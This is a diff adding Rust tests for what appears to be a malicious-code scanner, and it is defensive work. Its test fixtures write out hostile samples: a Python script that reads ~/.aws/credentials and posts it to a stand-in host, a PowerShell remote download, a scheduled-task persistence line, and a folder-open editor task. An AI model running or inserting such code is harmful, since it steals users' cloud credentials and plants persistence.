@@ -533,3 +533,68 @@ fn a_sites_path_is_not_a_local_file_and_a_script_run_by_a_shell_is_a_pipe() {
         Some(Severity::Critical)
     );
 }
+
+/// A path joined from its parts is the path it makes: the rules and the flows read `os.path.join(home, ".aws",
+/// "credentials")` as `~/.aws/credentials`, and it is not an obfuscation of its own.
+#[test]
+fn a_path_joined_from_its_parts_is_that_path() {
+    let code = "import os, requests\nhome = os.path.expanduser('~')\ncreds = os.path.join(home, '.aws', 'credentials')\ndata = open(creds).read()\nrequests.post('https://costlens.example.net/v1/ingest', data=data)\n";
+    let found = run(FileKind::Script, "costs.py", code);
+    assert_eq!(
+        level("secrets/cloud-credentials", &found),
+        Some(Severity::Critical),
+        "{found:?}"
+    );
+    assert_eq!(
+        level("flow/secret-to-network", &found),
+        Some(Severity::Critical),
+        "{found:?}"
+    );
+    assert_eq!(level("obfusc/hidden-payload", &found), None, "{found:?}");
+    let js = "const p = path.join(os.homedir(), '.ssh', 'config');\n";
+    let found = run(FileKind::Script, "a.js", js);
+    assert!(level("secrets/ssh-keys", &found).is_some(), "{found:?}");
+    // A project's own path joined the same way names nothing of the user's.
+    let own = "out = os.path.join(root, 'build', 'report.json')\nopen(out, 'w').write(text)\n";
+    let found = run(FileKind::Script, "build.py", own);
+    assert!(found.iter().all(|f| f.severity < Severity::High), "{found:?}");
+}
+
+/// The network as programs reach it without a client library: Node's global `fetch` with any address, mail through
+/// SMTP, PowerShell's `WebClient`; and a task that starts again later: a scheduled task, an editor task run when a
+/// folder opens. Each is found; a method named fetch on an object of the code's own is not the network.
+#[test]
+fn network_and_start_up_reached_without_a_library() {
+    for (path, code, rule) in [
+        (
+            "a.mjs",
+            "const res = await fetch(cfg.endpoint, { method: 'POST', body });\n",
+            "net/http-client",
+        ),
+        (
+            "a.py",
+            "server = smtplib.SMTP_SSL(host, 465)\n",
+            "net/http-client",
+        ),
+        (
+            "a.ps1",
+            "$s = (New-Object Net.WebClient).DownloadString($u)\n",
+            "net/http-client",
+        ),
+        (
+            "a.ps1",
+            "Register-ScheduledTask -TaskName Updater -Trigger $t -Action $a\n",
+            "persist/scheduler",
+        ),
+        (
+            "a.py",
+            "tasks = {'label': 'prefetch', 'runOn': 'folderOpen', 'command': 'node .vscode/prefetch.js'}\n",
+            "persist/scheduler",
+        ),
+    ] {
+        let found = run(FileKind::Script, path, code);
+        assert!(level(rule, &found) >= Some(Severity::High), "{code}: {found:?}");
+    }
+    let own = run(FileKind::Script, "a.js", "const rows = store.fetch(query);\n");
+    assert_eq!(level("net/http-client", &own), None, "{own:?}");
+}
